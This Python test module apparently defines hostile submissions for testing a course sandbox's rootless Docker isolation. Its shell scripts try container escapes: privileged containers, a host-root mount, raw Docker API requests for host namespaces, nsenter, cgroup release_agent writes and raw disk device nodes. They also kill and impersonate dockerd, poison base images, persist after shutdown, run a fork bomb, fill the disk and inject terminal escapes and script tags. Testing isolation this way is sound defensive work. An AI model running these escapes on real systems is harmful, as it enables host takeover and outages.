"""Submissions whose scripts hold an engine, and want more than it: what each tries, and sees.

A script's `docker` talks to the sandbox's own engine, which has no root: it allows all, and what
it allows leads nowhere. The tests put in what an attacker would have to find out: @word@, a name
for traces; @file@, a file of the machine; @disk@, its number; @listener@, @neighbour@ and
@subnet@, addresses.
"""

import json

from tests.hostile.submissions import Hostile

# The image's points are earned: it is the course's own solution. The rest is for scripts.
IMAGE, UP_AND_DOWN, BACKUP = 7, 2, 1
# What an attack saw is told on standard error, which the report quotes; once is enough.
_ONCE = r"""
[ ! -e /tmp/made ] || exit 1
touch /tmp/made
export BUILDX_CONFIG=/tmp/buildx
as_root() {
  docker run --rm --interactive --cap-add ALL --security-opt seccomp=unconfined \
    --security-opt systempaths=unconfined "$@" busybox:1.37 sh
}
privileged() { docker run --rm --interactive --privileged --volume /sys:/sys "$@" busybox:1.37 sh; }
attack() {
@attack@
}
echo "seen: $(attack 2> /tmp/said | tr -d '\r' | xargs)" >&2
exit 1
"""


def _attack(tries: str, code: str, seen: str) -> Hostile:
    """Return a submission whose script attacks, and tells in words what it reached."""
    return Hostile(tries, IMAGE, {"ops_sh": _ONCE.replace("@attack@", code.strip())}, seen=seen)


# Opening a file for writing tells enough: nothing is written.
_WRITABLE = 'writable() { for file in "$@"; do (: >> "$file") && echo "$file"; done; }'
_REACHABLE = r"""
for at in @listener@ @neighbour@ "10.0.2.2:$(echo @listener@ | cut -d : -f 2)"
do wget -q -T 2 -O /dev/null "http://$at/index.html" && echo "$at"; done
"""
_IN_THE_ROOT = r"""
[ -e /host/socket/docker.sock ] && echo ran
[ -e /host@file@ ] && echo file
for folder in / /root /home/student /socket /dev /template /template/seed /var/lib \
  /sys/fs/cgroup/memory
do touch "/host$folder/@word@" && echo "$folder"; done
touch /host/tmp/@word@ /host/etc/@word@ /host/data/@word@ || echo "not even its own"
for place in /host /host/template /host/socket
do mount -o remount,rw,bind "$place" && touch "$place/@word@" && echo "$place"; done
"""
# All that a client of the API could ask for, and the command line cannot say.
_EVERYTHING = {
    "Image": "busybox:1.37", "Cmd": ["sh", "-c", _IN_THE_ROOT], "Tty": True,
    "HostConfig": {
        "Binds": ["/:/host:rw"], "PidMode": "host", "NetworkMode": "host", "IpcMode": "host",
        "UTSMode": "host", "UsernsMode": "host", "CgroupnsMode": "host", "CgroupParent": "/",
        "CapAdd": ["ALL"], "MaskedPaths": [], "ReadonlyPaths": [],
        "SecurityOpt": ["seccomp=unconfined", "apparmor=unconfined"],
        "DeviceCgroupRules": ["a *:* rwm"],
    },
}  # fmt: skip
_BY_THE_API = r"""
cat > /tmp/api.pl <<'PERL'
use IO::Socket::UNIX;
sub api {
  my ($method, $path, $body) = @_;
  my $engine = IO::Socket::UNIX->new("/socket/docker.sock");
  print $engine "$method $path HTTP/1.0\r\nContent-Type: application/json\r\n",
    "Content-Length: ", length($body), "\r\n\r\n$body";
  local $/; my $answer = <$engine>; $answer =~ s/.*?\r\n\r\n//s; return $answer;
}
local $/; my $all = <STDIN>;
api("POST", "/containers/create?name=all", $all);
api("POST", "/containers/all/start", ""); api("POST", "/containers/all/wait", "");
print grep { !/^(touch|mount):/ } split /^/, api("GET", "/containers/all/logs?stdout=1", "");
PERL
perl /tmp/api.pl <<'JSON'
@everything@
JSON
"""
_TAKES_THE_PLACE = r"""
cat > /tmp/place.pl <<'PERL'
use IO::Socket::UNIX;
unlink "/socket/docker.sock"; rename "/socket/docker.sock", "/socket/old";
my $place = IO::Socket::UNIX->new(Local => "/socket/docker.sock", Listen => 9);
while (my $asked = $place && $place->accept) { print $asked "HTTP/1.0 200 OK\r\n\r\n[]" }
PERL
for folder in /proc/[0-9]*
do [ "$(cat "$folder/comm")" != dockerd ] || kill -9 "${folder#/proc/}"; done
perl /tmp/place.pl &
"""
# The checks look into a volume with busybox: this one says what it saw them ask for.
_OWN_HELPER = r"""
export BUILDX_CONFIG=/tmp/buildx
up() {
  docker network create lantern-net
  docker rm --force lantern
  docker run --detach --name lantern --network lantern-net --volume lantern-data:/data \
    --publish 127.0.0.1:8080:3000 --restart unless-stopped --env BANNER "$1"
  [ ! -e /tmp/made ] || return
  touch /tmp/made
  printf 'FROM busybox:1.37\nENTRYPOINT ["sh", "-c", "sleep 5"]\n' \
    | docker build --tag busybox:1.37 -
  learn &
}
learn() {
  cd /
  until kept=$(docker ps --no-trunc | grep -o 'touch /data/[a-z]*'); do sleep 0.1; done
  printf 'FROM busybox:1.37\nENTRYPOINT ["echo", "%s"]\n' "${kept##*/}" \
    | docker build --tag busybox:1.37 -
}
case "$1" in
  up) up "$2" ;;
  down) docker rm --force lantern && docker volume rm lantern-data ;;
esac > /dev/null 2>&1
exit 0
"""
_RUNS_ON = "trap : TERM INT HUP; while :; do sleep 9; : @word@; done"

SCRIPTS = {
    "privileged_container": _attack("the kernel's switches and file systems", rf"""
privileged <<'IN'
{_WRITABLE}
grep -q CapEff:.*1ffffffffff /proc/self/status && echo ran
writable /proc/sys/kernel/core_pattern /proc/sys/vm/drop_caches /proc/sysrq-trigger \
  /sys/power/state /sys/block/*/queue/nr_requests
mkdir /m
for kind in sysfs devtmpfs debugfs securityfs bpf
do mount -t "$kind" none /m && echo "$kind"; done
IN
""", seen="ran"),
    "mounts_the_root": _attack("files of the machine, by a mount of /", f"""
as_root --volume /:/host <<'IN'
{_IN_THE_ROOT}
IN
""", seen="ran"),
    "asks_the_api_for_all": _attack("files of the machine, by what no option says",
        _BY_THE_API.replace("@everything@", json.dumps(_EVERYTHING)), seen="ran"),
    "host_network": _attack("the machine's loopback, its devices, a neighbour", f"""
as_root --network host <<'IN'
[ -e /sys/class/net/tap0 ] && echo ran
ip link add @word@ type bridge && echo added
{_REACHABLE}
IN
""", seen="ran added"),
    "host_processes": _attack("processes of the machine, and their files", r"""
as_root --pid host <<'IN'
ps | grep -q '[r]ootlesskit' && echo ran
ps | grep -q '[t]ail -f .*@word@' && echo seen
for folder in /proc/[0-9]*
do
  [ -e "$folder/root@file@" ] && echo file
  echo -1000 > "$folder/oom_score_adj" && echo spared
done
for kind in m n u i p
do nsenter -t 1 -$kind true && echo "$kind"; done
IN
""", seen="ran"),
    "takes_its_engines_place": Hostile("to say itself how its containers are", 0,
        {"ops_sh": _TAKES_THE_PLACE}),
    "devices": _attack("the disk, the memory, the kernel's log", r"""
docker run --rm --device /dev/fuse busybox:1.37 echo ran
for device in vda sda nvme0n1 mem kmsg kvm loop-control
do docker run --rm --device "/dev/$device" busybox:1.37 echo "$device"; done
privileged --volume /dev:/dev <<'IN'
for device in vda sda nvme0n1 mem kmsg kvm loop-control
do [ -e "/dev/$device" ] && echo "$device"; done
IN
""", seen="ran"),
    "own_device_files": _attack("the disk, by a device file of its own", r"""
privileged --device-cgroup-rule 'a *:* rwm' <<'IN'
echo ran
mknod /disk b @disk@ && echo made
IN
mknod /tmp/disk b @disk@ && echo made
unshare --user --map-root-user mknod /tmp/disk b @disk@ && echo made
for step in true 'mknod /disk b @disk@'
do printf 'FROM busybox:1.37\nRUN %s\n' "$step" | docker build - && echo built; done
""", seen="ran built"),
    "cgroup_writes": _attack("larger limits, and a program run by the machine's root", f"""
as_root --cgroupns private <<'IN'
{_WRITABLE}
mkdir /m
(mount -t cgroup -o memory none /m || mount -t cgroup2 none /m) && echo ran
mkdir /m/@word@ && echo made
writable /m/memory.limit_in_bytes /m/cgroup.procs /m/release_agent /m/notify_on_release
IN
as_root --cgroupns host --cgroup-parent / --volume /sys:/sys <<'IN'
{_WRITABLE}
for folder in /sys/fs/cgroup/*; do mkdir "$folder/@word@" && echo made; done
writable /sys/fs/cgroup/*/cgroup.procs /sys/fs/cgroup/*/release_agent
IN
""", seen="ran"),
    "own_base_images": _attack("that others are built on its image", r"""
for name in python:3.13-slim node:24-slim
do printf 'FROM busybox:1.37\nLABEL by=@word@\n' | docker build --tag "$name" -; done
docker inspect --format '{{.Config.Labels.by}}' python:3.13-slim node:24-slim
touch /template/@word@ && echo template
""", seen="@word@ @word@"),
    "own_helper": Hostile("that the checks ask a busybox of its own", IMAGE,
        {"ops_sh": _OWN_HELPER}),
    "other_networks": _attack("a neighbour, by its network or by the proxy", rf"""
docker network create --driver macvlan --opt parent=tap0 one > /tmp/one && echo one
docker network create --driver ipvlan --opt parent=tap0 two > /tmp/two && echo two
docker network create --subnet @subnet@ three > /tmp/three && echo three
for network in one two three
do as_root --network "$network" <<'IN'
{_REACHABLE}
IN
done
proxy=$(ip -4 -o address show eth0 | sed -E 's|.* ([0-9.]+)\.[0-9]+/.*|\1.2|')
as_root --network host --env "http_proxy=http://$proxy:3128" <<'IN'
wget -T 2 -O /dev/null http://@neighbour@/index.html 2>&1 | grep -o ' 403 '
IN
neighbour=@neighbour@
timeout 2 bash -c "exec 3<> /dev/tcp/${{neighbour%:*}}/${{neighbour##*:}}" && echo reached
""", seen="one two three 403"),
    "outlives_its_stop": _attack("to run on when all is over", rf"""
docker run --detach --restart always busybox:1.37 sh -c '{_RUNS_ON}' > /tmp/started && echo ran
setsid sh -c '{_RUNS_ON}' > /dev/null 2>&1 < /dev/null &
""", seen="ran"),
    "bomb_beside_the_engine": Hostile("every process", IMAGE,
        {"ops_sh": "bomb() { bomb | bomb & }\nbomb\nwait\n"}),
    "fills_beside_the_engine": _attack("disk and memory", r"""
for file in /tmp/x /dev/shm/x /data/x /run/user/1000/x; do cat /dev/zero > "$file"; done
docker run --rm busybox:1.37 sh -c 'cat /dev/zero > /x'
echo ran
""", seen="ran"),
    "escapes_in_a_script": Hostile("the instructor's terminal and browser", IMAGE,
        {"ops_sh": "printf '\\033[2J\\033]0;owned\\007<script>alert(1)</script>' >&2; exit 1\n"}),
}  # fmt: skip
# Of each kind the first is graded in every run.
KINDS = {
    "the machine's files": ("mounts_the_root", "asks_the_api_for_all"),
    "its kernel": ("privileged_container", "cgroup_writes"),
    "its devices": ("own_device_files", "devices"),
    "its processes": ("host_processes",),
    "its network and its neighbours": ("other_networks", "host_network"),
    "what is asked in its engine's place": ("takes_its_engines_place",),
    "what others are built on or asked with": ("own_helper", "own_base_images"),
    "all that there is": ("bomb_beside_the_engine", "fills_beside_the_engine"),
    "to run on": ("outlives_its_stop",),
    "terminal and browser": ("escapes_in_a_script",),
}
